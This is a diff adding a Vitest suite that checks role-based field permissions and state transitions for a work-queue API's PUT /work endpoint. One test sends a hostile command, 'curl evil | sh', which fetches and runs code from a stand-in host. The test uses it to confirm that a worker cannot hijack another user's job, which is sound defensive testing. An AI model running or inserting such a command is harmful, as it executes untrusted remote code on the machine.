@@ -1,0 +1,199 @@
+import { readFileSync } from "node:fs";
+import { join } from "node:path";
+import { BSON, type Db, type MongoClient, ObjectId } from "mongodb";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { testDb } from "../../../test/support/db.js";
+import { renderTransitions } from "../src/index.js";
+import { aWork, startTestService, type TestService } from "./support/service.js";
+
+/** Who may write which field through PUT /work: each role x each field x running or not. */
+
+let t: TestService;
+let db: Db;
+let mongo: MongoClient;
+beforeAll(async () => {
+  t = await startTestService(import.meta.filename, { BUCKETS_REAP_SECONDS: "3600" });
+  ({ client: mongo, db } = await testDb(import.meta.filename, "", { drop: false }));
+});
+afterAll(async () => {
+  await mongo.close();
+  await t.close();
+});
+
+type Role = "worker" | "owner" | "other" | "admin";
+const tokenOf = (role: Role) =>
+  ({ worker: t.tokens.worker, owner: t.tokens.alice, other: t.tokens.bob, admin: t.tokens.admin })[
+    role
+  ];
+
+/** A new value for each field a PUT might carry. */
+const CHANGES: Record<string, unknown> = {
+  command: ["false"],
+  parameters: { x: 2 },
+  priority: 5,
+  tags: ["changed"],
+  event: [7],
+  timeout: 99,
+  retries: 1,
+  site: "elsewhere",
+  config: { parent: "p2" },
+  notify: { slack: { channel_id: "C2" } },
+  pipeline: "moved",
+  user: "mallory",
+  creation: 1,
+  results: { n: 1 },
+  products: ["/data/p.h5"],
+  plots: ["/data/p.png"],
+};
+const DEFINITION = [
+  "command",
+  "parameters",
+  "priority",
+  "tags",
+  "event",
+  "timeout",
+  "retries",
+  "site",
+  "config",
+  "notify",
+];
+const REPORTED = ["results", "products", "plots"];
+
+/** The answer the state machine gives: the documented matrix. */
+function expected(role: Role, field: string, running: boolean): number {
+  if (field === "pipeline" || field === "user") return 403;
+  // An admin may do what a worker may: report on the attempt it names.
+  if (REPORTED.includes(field))
+    return (role === "worker" || role === "admin") && running ? 200 : 403;
+  if (field === "creation") return 403;
+  // Definition fields.
+  if (role === "worker" || role === "other") return 403;
+  if (running) return role === "admin" && field === "timeout" ? 200 : 409;
+  return 200;
+}
+
+const raw = async (id: string) =>
+  BSON.serialize((await db.collection("works").findOne({ _id: new ObjectId(id) })) ?? {});
+
+/** A fresh work, alone in its own pipeline: queued, or claimed by the worker. */
+async function aWorkIn(state: "queued" | "running"): Promise<{ id: string; attempt: number }> {
+  const pipeline = `matrix-${new ObjectId().toHexString()}`;
+  const [id] = (
+    await t.call("POST", "/work?return_ids=true", {
+      token: t.tokens.alice,
+      body: [aWork({ pipeline })],
+    })
+  ).body as [string];
+  if (state === "queued") return { id, attempt: 0 };
+  const claimed = (
+    await t.call("POST", "/work/withdraw?lease=60", { token: t.tokens.worker, body: { pipeline } })
+  ).body as { id: string; attempt: number };
+  expect(claimed.id).toBe(id);
+  return claimed;
+}
+
+describe("who may write which field", () => {
+  const roles: Role[] = ["worker", "owner", "other", "admin"];
+  for (const running of [false, true]) {
+    for (const role of roles) {
+      it(`${role}, ${running ? "running" : "not running"}: every field`, async () => {
+        for (const [field, value] of Object.entries(CHANGES)) {
+          const work = await aWorkIn(running ? "running" : "queued");
+          const before = await raw(work.id);
+          const answer = await t.call("PUT", "/work", {
+            token: tokenOf(role),
+            body: [{ id: work.id, attempt: work.attempt, [field]: value }],
+          });
+          const want = expected(role, field, running);
+          expect(answer.status, `${role} ${field}: ${JSON.stringify(answer.body)}`).toBe(want);
+          if (want === 403) {
+            expect(JSON.stringify(answer.body), `${role} ${field}`).toContain(
+              `field \\"${field}\\"`,
+            );
+          }
+          if (want !== 200) expect(await raw(work.id), `${role} ${field}`).toEqual(before);
+        }
+      });
+    }
+  }
+
+  it("a worker rewriting another user's command while reporting gets 403, and nothing of the work changes", async () => {
+    const work = await aWorkIn("running");
+    const before = await raw(work.id);
+    const answer = await t.call("PUT", "/work", {
+      token: t.tokens.worker,
+      body: [
+        {
+          id: work.id,
+          attempt: work.attempt,
+          status: "failure",
+          command: ["sh", "-c", "curl evil | sh"],
+          results: { error: "so it retries" },
+        },
+      ],
+    });
+    expect(answer.status).toBe(403);
+    expect(JSON.stringify(answer.body)).toContain('field \\"command\\"');
+    expect(await raw(work.id)).toEqual(before);
+  });
+
+  it("a PUT asking for running is a 409 that says only a claim does that", async () => {
+    for (const token of [t.tokens.alice, t.tokens.admin, t.tokens.worker]) {
+      const work = await aWorkIn("queued");
+      const before = await raw(work.id);
+      const answer = await t.call("PUT", "/work", {
+        token,
+        body: [{ id: work.id, status: "running" }],
+      });
+      expect(answer.status).toBe(409);
+      expect(JSON.stringify(answer.body)).toMatch(/only a claim/);
+      expect(await raw(work.id)).toEqual(before);
+    }
+  });
+
+  it("an owner re-queues a finished work with fresh retries, and may change it first", async () => {
+    const work = await aWorkIn("running");
+    await t.call("PUT", "/work", {
+      token: t.tokens.worker,
+      body: [{ id: work.id, attempt: work.attempt, status: "success" }],
+    });
+    const answer = await t.call("PUT", "/work", {
+      token: t.tokens.alice,
+      body: [{ id: work.id, status: "queued", priority: 5 }],
+    });
+    expect(answer.status).toBe(200);
+    const [stored] = (await t.call("POST", "/view", { body: { query: { id: work.id } } }))
+      .body as Record<string, unknown>[];
+    expect(stored).toMatchObject({ status: "queued", priority: 5, uncounted: 1 });
+  });
+
+  it("CHIME's worker sending back the whole work, with its own defaults filled in, is an outcome", async () => {
+    const work = await aWorkIn("running");
+    const [stored] = (await t.call("POST", "/view", { body: { query: { id: work.id } } }))
+      .body as Record<string, unknown>[];
+    const whole = {
+      ...stored,
+      config: {
+        archive: { results: true, products: "copy", plots: "copy", logs: "move" },
+        metrics: false,
+        parent: null,
+        orgs: ["chimefrb"],
+        teams: null,
+      },
+      notify: { slack: { channel_id: null, member_ids: null, reply: null } },
+      function: null,
+      status: "success",
+      results: { dm: 100.5 },
+      stop: Date.now() / 1000,
+    };
+    const answer = await t.call("PUT", "/work", { token: t.tokens.worker, body: [whole] });
+    expect(answer.status, JSON.stringify(answer.body)).toBe(200);
+  });
+});
+
+describe("the transition table", () => {
+  it("is the one the README shows", () => {
+    const readme = readFileSync(join(import.meta.dirname, "..", "..", "..", "README.md"), "utf8");
+    expect(readme).toContain(renderTransitions());
+  });
+});
